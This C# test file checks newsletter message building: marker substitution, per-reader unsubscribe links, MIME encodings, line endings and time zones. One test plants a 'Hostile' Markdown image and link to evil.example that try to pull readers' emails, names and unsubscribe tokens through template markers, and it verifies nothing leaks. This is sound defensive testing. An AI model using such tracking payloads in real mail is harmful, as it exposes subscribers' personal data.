using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;
using Newsletter.Testing;
using Newsletter.Web.Sending;
using Newsletter.Web.Subscribers;
using static Newsletter.Tests.Sending.SendingFixture;

namespace Newsletter.Tests.Sending;

public class IssueMessagesTests
{
    [Fact]
    public void MarkedTextFillsEveryMarkerInPlaceIncludingRepeatsAndNeighbours()
    {
        var text = MarkedText.Parse("<a href=\"[u]\">leave</a>[n][n] mail [e]. [u]", ["[u]", "[p]", "[n]", "[e]"]);

        static string Fill(MarkedText t, string[] values) => System.Text.Encoding.UTF8.GetString(t.FillUtf8(values));

        Assert.Equal("<a href=\"U\">leave</a>NameName mail e@x. U", Fill(text, ["U", "P", "Name", "e@x"]));
        Assert.Equal("<a href=\"\">leave</a> mail . ", Fill(text, ["", "", "", ""]));
        Assert.Equal("Grüße, Jürgen · ok", Fill(MarkedText.Parse("Grüße, [n] · ok", ["[u]", "[p]", "[n]"]), ["U", "P", "Jürgen"]));
        Assert.Equal("no markers here", Fill(MarkedText.Parse("no markers here", ["[u]"]), ["x"]));
    }

    [Fact]
    public async Task EachReaderGetsTheirOwnLinksAndAddressAndNonAsciiSurvivesTheWire()
    {
        using var app = new NewsletterApp();
        var issueId = await AddIssueAsync(app);
        await using var scope = app.Services.CreateAsyncScope();
        var messages = scope.ServiceProvider.GetRequiredService<IssueMessages>();
        var prepared = await messages.PrepareAsync(issueId, Ct);

        var built = messages.Build(prepared, new Recipient(8, "juergen@bücher.example", "Jürgen Groß", SubscriberStatus.Active, null), 80).Message;
        // The encoding chosen once per issue must not be forced on a copy whose reader brings non-ASCII text.
        Assert.NotEqual(ContentEncoding.SevenBit, built.BodyParts.OfType<TextPart>().Single(p => !p.IsHtml).ContentTransferEncoding);
        var unicode = RoundTrip(built);
        var adaCopy = messages.Build(prepared, new Recipient(7, "ada@example.org", "Ada", SubscriberStatus.Active, null), 70).Message;
        // An ASCII reader's copy carries the encodings chosen once for the issue: 7bit or 8bit for a body of short
        // lines, never quoted-printable, which would cost an encoding pass per reader.
        Assert.Equal([prepared.TextEncoding, prepared.HtmlEncoding], adaCopy.BodyParts.OfType<TextPart>().Select(p => p.ContentTransferEncoding));
        Assert.All(new[] { prepared.TextEncoding, prepared.HtmlEncoding }, e => Assert.Contains(e, new[] { ContentEncoding.SevenBit, ContentEncoding.EightBit }));
        var ascii = RoundTrip(adaCopy);

        Assert.Contains("ada@example.org", ascii.TextBody, StringComparison.Ordinal);
        Assert.Contains("juergen@bücher.example", unicode.TextBody, StringComparison.Ordinal);
        Assert.DoesNotContain("urn:newsletter", ascii.HtmlBody + ascii.TextBody, StringComparison.Ordinal);
        var asciiLink = Outbox.Link(ascii, "/unsubscribe/");
        var unicodeLink = Outbox.Link(unicode, "/unsubscribe/");
        Assert.NotEqual(asciiLink, unicodeLink);
        Assert.Contains(asciiLink, ascii.TextBody, StringComparison.Ordinal);
    }

    /// <summary>
    /// The body is the author's (or a co-author's): whatever it writes, only the template's own places are filled
    /// with a reader's address and links. An image whose address carried the markers would otherwise hand every
    /// reader's address and unsubscribe token to its server, on open.
    /// </summary>
    [Fact]
    public async Task MarkersWrittenIntoTheBodyStayAsWrittenAndLeakNothing()
    {
        using var app = new NewsletterApp();
        var issueId = await AddIssueAsync(app);
        await using var scope = app.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<Newsletter.Web.Data.AppDbContext>();
        var issue = await db.Issues.SingleAsync(i => i.Id == issueId, Ct);
        const string Hostile = "![Chart](https://evil.example/p.png?e=urn-newsletter-email&n=urn-newsletter-name&u=urn:newsletter:unsubscribe&p=urn:newsletter:preferences) [x](https://evil.example/?e=urn-newsletter-email)";
        issue.Markdown = Hostile;
        await scope.ServiceProvider.GetRequiredService<Newsletter.Web.Issues.IssueComposer>().ComposeAsync(issue, Ct);
        await db.SaveChangesAsync(Ct);

        var messages = scope.ServiceProvider.GetRequiredService<IssueMessages>();
        var first = await messages.PrepareAsync(issueId, Ct);
        var second = await messages.PrepareAsync(issueId, Ct);
        Assert.NotEqual(first.Markers, second.Markers);
        var copy = RoundTrip(messages.Build(first, new Recipient(7, "ada@example.org", "Ada Reader", SubscriberStatus.Active, null), 70).Message);
        var html = copy.HtmlBody!;
        var evil = html[html.IndexOf("https://evil.example/p.png", StringComparison.Ordinal)..];
        evil = evil[..evil.IndexOf('"')];
        Assert.Equal("https://evil.example/p.png?e=urn-newsletter-email&amp;n=urn-newsletter-name&amp;u=urn:newsletter:unsubscribe&amp;p=urn:newsletter:preferences", evil);
        foreach (var body in new[] { html, copy.TextBody! })
        {
            // The reader's own address and token appear only where the template puts them, never in the author's links.
            foreach (var line in body.Split('\n').Where(l => l.Contains("evil.example", StringComparison.Ordinal)))
            {
                Assert.DoesNotContain("ada@example.org", line, StringComparison.Ordinal);
                Assert.DoesNotContain("Ada Reader", line, StringComparison.Ordinal);
                Assert.DoesNotContain("/unsubscribe/", line, StringComparison.Ordinal);
            }
        }

        // The template's places are still filled.
        Assert.Contains("ada@example.org", copy.TextBody, StringComparison.Ordinal);
        Assert.Contains("/unsubscribe/", html, StringComparison.Ordinal);
    }

    [Fact]
    public void OnlyABareLineFeedBecomesCrlf()
    {
        Assert.Equal("a\r\nb\r\nc\rd\u2028e\r\n\r\n", PreparedIssue.ToCrlf("a\nb\r\nc\rd\u2028e\n\r\n"));
        Assert.Equal("", PreparedIssue.ToCrlf(""));
    }

    [Fact]
    public async Task AReadersCopyHasTheWiresLineEndsAlreadyAndReadsBackAsTheIssueDoes()
    {
        using var app = new NewsletterApp();
        var issueId = await AddIssueAsync(app);
        await using var scope = app.Services.CreateAsyncScope();
        var messages = scope.ServiceProvider.GetRequiredService<IssueMessages>();
        var prepared = await messages.PrepareAsync(issueId, Ct);

        using var built = messages.Build(prepared, new Recipient(7, "ada@example.org", "Ada", SubscriberStatus.Active, null), 70).Message;
        foreach (var part in built.BodyParts.OfType<TextPart>())
        {
            // Every LF follows a CR in the content itself, so MimeKit can write it without its LF-to-CRLF pass.
            using var content = new MemoryStream();
            part.Content!.DecodeTo(content, Ct);
            var bytes = content.ToArray().AsSpan();
            Assert.True(bytes.Count((byte)'\n') > 0);
            Assert.Equal(bytes.Count((byte)'\n'), bytes.Count("\r\n"u8));
        }

        // What the reader gets back is the issue's text, line for line.
        var received = RoundTrip(built);
        var expected = prepared.Text.Replace(prepared.Markers.Name, "Ada", StringComparison.Ordinal).Replace(prepared.Markers.Email, "ada@example.org", StringComparison.Ordinal).Split('\n')
            .Where(l => !l.Contains(prepared.Markers.Unsubscribe, StringComparison.Ordinal) && !l.Contains(prepared.Markers.Preferences, StringComparison.Ordinal)).ToList();
        var lines = received.TextBody!.Replace("\r\n", "\n", StringComparison.Ordinal).Split('\n');
        Assert.All(expected, l => Assert.Contains(l.TrimEnd('\r'), lines));
    }

    [Fact]
    public async Task TheIssuesDateShowsInTheSitesTimeZone()
    {
        // 13:30 UTC on the 14th is already the 15th in Auckland (UTC+12).
        using var app = new NewsletterApp(new() { ["Site:TimeZone"] = "Pacific/Auckland" });
        var issueId = await AddIssueAsync(app);
        await using var scope = app.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<Newsletter.Web.Data.AppDbContext>();
        await db.Issues.Where(i => i.Id == issueId).ExecuteUpdateAsync(u => u.SetProperty(i => i.PublishedAt, new DateTime(2026, 9, 14, 13, 30, 0, DateTimeKind.Utc)), Ct);

        var prepared = await scope.ServiceProvider.GetRequiredService<IssueMessages>().PrepareAsync(issueId, Ct);

        // Without a number the date stands alone (the newsletter's name is already on top).
        Assert.Contains(">15 September 2026", prepared.Html, StringComparison.Ordinal);
        Assert.DoesNotContain("14 September", prepared.Html, StringComparison.Ordinal);
        Assert.Contains("Ledgers, leases and the 40 ms stall\n", prepared.Text, StringComparison.Ordinal);
        Assert.Contains(", 15 September 2026\n", prepared.Text, StringComparison.Ordinal);
    }

    private static MimeMessage RoundTrip(MimeMessage message)
    {
        // As SMTP would: encodings chosen for a 7-bit wire, written out, read back by the receiver.
        using (message)
        {
            message.Prepare(EncodingConstraint.SevenBit);
            var stream = new MemoryStream();
            message.WriteTo(stream);
            stream.Position = 0;
            return MimeMessage.Load(stream);
        }
    }
}
